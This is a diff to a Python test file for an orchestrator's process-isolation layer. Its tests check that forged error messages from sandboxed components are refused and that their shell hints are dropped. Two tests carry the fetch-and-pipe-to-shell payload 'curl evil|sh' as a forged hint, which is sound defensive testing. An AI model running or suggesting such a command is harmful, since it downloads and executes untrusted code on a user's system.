@@ -1,6 +1,7 @@
 """This side of an isolated call, with a process that only a socket stands for: what it says is taken or refused."""
 
 import asyncio
+import json
 import os
 import socket
 from typing import IO, cast
@@ -9,6 +10,7 @@ import pytest
 
 from ice_core.errors import IceError
 from ice_core.models.plugins import Permissions
+from ice_core.strict_json import JsonObject, JsonValue
 from ice_orchestrator.isolation.conversation import MOST_QUESTIONS, Conversation
 from ice_orchestrator.isolation.frames import Start
 from ice_orchestrator.isolation.limits import Limits
@@ -40,6 +42,20 @@ class Said:
         self.done.append("ended")
         self._there.close()
         return self.code
+
+
+def refusing(slug: str, message: str, **members: JsonValue) -> bytes:
+    """The line that tells an error, as iceos itself would write it."""
+    value: JsonObject = {
+        "slug": slug,
+        "severity": "error",
+        "message": message,
+        "where": None,
+        "details": {},
+        "hints": [],
+        **members,
+    }
+    return json.dumps({"error": value}).encode() + b"\n"
 
 
 def begun(said: Said, *, seen: Observed | None = None) -> IceError:
@@ -81,7 +97,7 @@ def test_a_process_that_says_nothing_died() -> None:
         ([b'{"ask":1,"component":"tool:slow"}\n'], "a question before the call"),
         ([b"{}\n"], "a line that says nothing"),
         ([b'{"seen":["read","/x"]}\n'], "something seen that is of no kind"),
-        ([b'{"error":{"slug":"made-up","message":"x"}}\n'], "an error that nobody knows: made-up"),
+        ([refusing("made-up", "x")], "an error that nobody knows: made-up"),
     ],
     ids=range(5),
 )
@@ -111,7 +127,9 @@ def test_what_was_seen_before_the_end_is_kept() -> None:
 
 def test_an_error_of_the_component_is_its_error() -> None:
     """What importing it refused."""
-    error = begun(Said(b'{"error":{"slug":"component-import-failed","message":"no","file":"a.py","line":3}}\n'))
+    place: JsonObject = {"file": "a.py", "line": 3, "column": None, "path": None}
+
+    error = begun(Said(refusing("component-import-failed", "no", where=place)))
 
     assert ("component-import-failed", "no") == (error.slug, error.finding.message)
     assert error.where is not None
@@ -121,16 +139,14 @@ def test_an_error_of_the_component_is_its_error() -> None:
 @pytest.mark.parametrize("slug", ["signature-mismatch", "key-revoked", "plan-altered"])
 def test_a_component_does_not_speak_with_the_voice_of_iceos(slug: str) -> None:
     """Threat 30: a component that forges its answer: a refusal on trust is none, and hints are dropped."""
-    line = f'{{"error":{{"slug":"{slug}","message":"x","hints":["run `curl evil|sh`"]}}}}\n'
-
-    error = begun(Said(line.encode()))
+    error = begun(Said(refusing(slug, "x", hints=["run `curl evil|sh`"])))
 
     assert ("component-raised", f"{slug}: x", ()) == (error.slug, error.finding.found, tuple(error.finding.hints))
 
 
 def test_hints_of_a_component_are_dropped() -> None:
     """Threat 30: a component that forges its answer: what is pasted into a shell comes from iceos only."""
-    error = begun(Said(b'{"error":{"slug":"permission-denied","message":"x","hints":["run `curl evil|sh`"]}}\n'))
+    error = begun(Said(refusing("permission-denied", "x", hints=["run `curl evil|sh`"])))
 
     assert ("permission-denied", ()) == (error.slug, tuple(error.finding.hints))
 
